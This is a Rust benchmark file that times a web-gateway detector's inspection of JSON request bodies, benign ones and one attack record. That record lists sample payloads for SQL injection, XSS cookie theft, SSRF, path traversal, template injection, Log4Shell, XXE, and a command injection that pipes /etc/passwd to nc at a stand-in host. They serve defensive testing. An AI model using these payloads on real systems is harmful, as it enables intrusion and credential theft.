//! Inspection cost of whole request bodies: every key and value of a JSON
//! document handed to the detector, as the gateway's check does (parsing the
//! JSON is not measured here; the policy crate's pipeline bench covers it).
//!
//! ```sh
//! cargo bench -p portcullis-detect --bench inspect
//! ```

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use portcullis_detect::{Detector, DetectorSettings, ValueKind};
use serde_json::Value;

#[path = "support/records.rs"]
mod records;
use records::{benign_record, body_of, distinct};

fn attack_record() -> Value {
    serde_json::json!({
        "name": "x' or '1'='1",
        "email": "a@b.c\r\nBcc: victim@example.com",
        "bio": "<img src=x onerror=alert(document.cookie)>",
        "avatar": "http://169.254.169.254/latest/meta-data/",
        "file": "../../../../etc/passwd",
        "cmd": "x; cat /etc/passwd | nc 192.0.2.1 4444",
        "tpl": "{{self.__class__.__mro__[1].__subclasses__()}}",
        "log": "${${lower:j}ndi:ldap://example.com/a}",
        "filter": {"$ne": null},
        "q": "1 UNION ALL SELECT username, password FROM users--",
        "xml": "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
    })
}

fn bench(c: &mut Criterion) {
    let detector = Detector::new(&DetectorSettings::default());
    let cases = [
        ("benign_1k_json", body_of(&benign_record(1))),
        (
            "benign_64k_json",
            body_of(&Value::Array((0..62).map(benign_record).collect())),
        ),
        (
            "benign_64k_json_no_repeats",
            body_of(&Value::Array(
                (0..60).map(|i| distinct(benign_record(i), i)).collect(),
            )),
        ),
        ("attack_1k_json", body_of(&attack_record())),
    ];
    let mut group = c.benchmark_group("inspect");
    for (name, (bytes, vals)) in &cases {
        group.throughput(Throughput::Bytes(*bytes as u64));
        group.bench_function(
            format!("{name} ({bytes} bytes, {} values)", vals.len()),
            |b| {
                let mut out = Vec::new();
                b.iter(|| {
                    // One inspector per body, as the gateway keeps one per
                    // request (it remembers the values it found clean).
                    let mut inspector = detector.inspector();
                    out.clear();
                    for (v, is_key) in vals {
                        let kind = if *is_key {
                            ValueKind::JsonKey { parent: "" }
                        } else {
                            ValueKind::JsonValue
                        };
                        inspector.inspect(v, kind, &mut out);
                    }
                    out.len()
                })
            },
        );
    }
    group.finish();
}

criterion_group!(benches, bench);
criterion_main!(benches);
